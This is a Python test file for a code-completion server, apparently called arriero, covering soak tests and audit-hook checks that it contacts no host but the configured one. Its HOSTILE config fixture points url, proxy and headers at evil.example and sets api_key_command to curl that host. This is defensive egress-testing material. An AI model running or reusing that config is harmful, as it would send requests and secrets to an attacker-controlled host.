"""What a server that runs all day does many times over, and what it must never do once."""

from __future__ import annotations

import gc
import json
import os
import subprocess
import sys

import pytest

from arriero import indexer
from arriero.detection import theirs
from arriero.errors import Overloaded
from arriero.lsp.client import Client
from arriero_backend.simulated.application import app as simulated
from arriero_backend.simulated.engine import SimulatedEngine
from desk import FULL, Desk
from e2e.house import settings
from e2e.truth import CURSOR, DOCUMENTATION, REST_OF_LINE, TRUTH, without, write
from engines import on_loopback
from model.driving import everything, served
from model.rawserver import END, HEAD, OK, chunk

ERROR = (HEAD.replace(b"200 OK", b"502 Bad Gateway"), chunk(b"<html>"), END)
STREAMS = 10_000 if os.environ.get("SOAK") else 600


async def test_a_thousand_streamed_errors_and_then_an_answer():
    async with served(*[ERROR] * 1000, OK) as (server, tgi):
        for _ in range(1000):
            assert isinstance((await everything(tgi))[1], Overloaded)
        items, error = await everything(tgi)
    assert (len(items), error) == (3, None)
    assert server.connections <= 2


async def test_a_hundred_requests_one_after_another_take_one_connection():
    async with served(OK) as (server, tgi):
        for _ in range(100):
            await everything(tgi)
    assert (len(server.requests), server.connections) == (100, 1)


async def test_many_streams_leave_nothing_in_memory():
    async with served(OK) as (server, tgi):

        async def kept_after(streams: int) -> int:
            for _ in range(streams):
                await everything(tgi)
                server.requests.clear()  # the test's own
            gc.collect()
            return sys.getallocatedblocks()

        await kept_after(100)
        early = await kept_after(STREAMS // 10)
        late = await kept_after(STREAMS)
    assert late - early < 1000, f"{(late - early) / STREAMS:.1f} blocks a stream"


# Notes every address that the process connects to or looks up, and every program that it runs.
WATCHED = """
import json, os, sys
out = open(os.environ["WATCH"], "a", buffering=1)
NAMES = {"socket.connect": 1, "socket.getaddrinfo": 0, "socket.sendto": 1, "subprocess.Popen": 1}
def watch(event, args):
    if event in NAMES:
        print(json.dumps([event, str(args[NAMES[event]])]), file=out)
sys.addaudithook(watch)
"""
SERVE = f"{WATCHED}from arriero.cli import main\nsys.exit(main(['serve']))"
RUN = "import runpy\nrunpy.run_module({!r}, run_name='__main__')"
READ_RULES = WATCHED + RUN.format(theirs.__name__)
READ_FILES = WATCHED + RUN.format(indexer.__name__)

HOSTILE = """
url = "http://evil.example"
replicas = ["http://evil.example"]
proxy = "http://evil.example:3128"
api_key_command = ["curl", "http://evil.example"]
typing.url = "http://evil.example"
headers = {Host = "evil.example"}
"""


@pytest.mark.parametrize("offline", ["0", "1"])
async def test_no_byte_goes_to_any_host_but_the_configured_one(tmp_path, offline):
    (tmp_path / "arriero.toml").write_text(HOSTILE)
    seen = tmp_path / "seen.jsonl"
    evil = "http://127.0.0.1:9"
    environment = {
        **os.environ,
        "WATCH": str(seen),
        "HF_TOKEN": "hf_of_the_person",
        "HF_HUB_OFFLINE": offline,
        "TRANSFORMERS_OFFLINE": offline,
        **dict.fromkeys(["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy"], evil),
    }
    environment.pop("NO_PROXY", None)
    argv = (sys.executable, "-c", SERVE)
    model, headers = simulated(SimulatedEngine(write(tmp_path / "truth").parent)), []

    async def noting(scope, receive, send):
        headers.append(str(scope.get("headers")))
        await model(scope, receive, send)

    async with on_loopback(noting) as server:
        told = settings(str(server.base_url).rstrip("/"))
        async with Client.spawn(
            argv, tmp_path, settings=told, capabilities=FULL, env=environment
        ) as client:
            desk = Desk(None, client, tmp_path)
            desk.open(without(REST_OF_LINE), "a/paths.py")
            assert await desk.suggestion() == REST_OF_LINE
            desk.open(without(DOCUMENTATION), "b/paths.py")
            await desk.choose("document")
            assert (desk.text, CURSOR in desk.text) == (TRUTH, False)
            await client.execute("arriero.doctor", [])
    port = server.base_url.port
    lines = [json.loads(line) for line in seen.read_text().splitlines()]
    assert lines, "the watch saw nothing, so it proves nothing"
    assert {what for event, what in lines if event == "socket.connect"} == {
        str(("127.0.0.1", port))
    }
    assert {what for event, what in lines if event == "socket.getaddrinfo"} <= {"127.0.0.1"}
    assert not [what for event, what in lines if event == "socket.sendto"]
    # The two programs that it runs are watched below.
    programs = {what for event, what in lines if event == "subprocess.Popen"}
    assert len(programs) == 2
    assert all(any(each.__name__ in program for program in programs) for each in (theirs, indexer))
    assert len(headers) > 5
    assert not [each for each in headers if "hf_of_the_person" in each]


def test_no_byte_goes_anywhere_while_the_rules_for_secrets_are_read(tmp_path):
    seen = tmp_path / "seen.jsonl"
    seen.touch()
    argv = (sys.executable, "-c", READ_RULES)
    ended = subprocess.run(
        argv, env={**os.environ, "WATCH": str(seen)}, check=True, capture_output=True
    )
    assert len(json.loads(ended.stdout)) > 20
    assert seen.read_text() == ""


def test_no_byte_goes_anywhere_while_a_workspace_is_read(tmp_path):
    seen = tmp_path / "seen.jsonl"
    seen.touch()
    write(tmp_path / "work")
    job = {"folder": str(tmp_path / "work"), "database": str(tmp_path / "index.sqlite")}
    ended = subprocess.Popen(
        (sys.executable, "-c", READ_FILES),
        env={**os.environ, "WATCH": str(seen)},
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    with ended:
        ended.stdin.write(json.dumps({**job, "ignore": [], "changed": None}) + "\n")
        ended.stdin.flush()  # and not closed: the process ends when its server does
        told = [json.loads(line)["files"] for line in ended.stdout]
    assert ended.returncode == 0
    assert sum(told) > 0
    assert seen.read_text() == ""
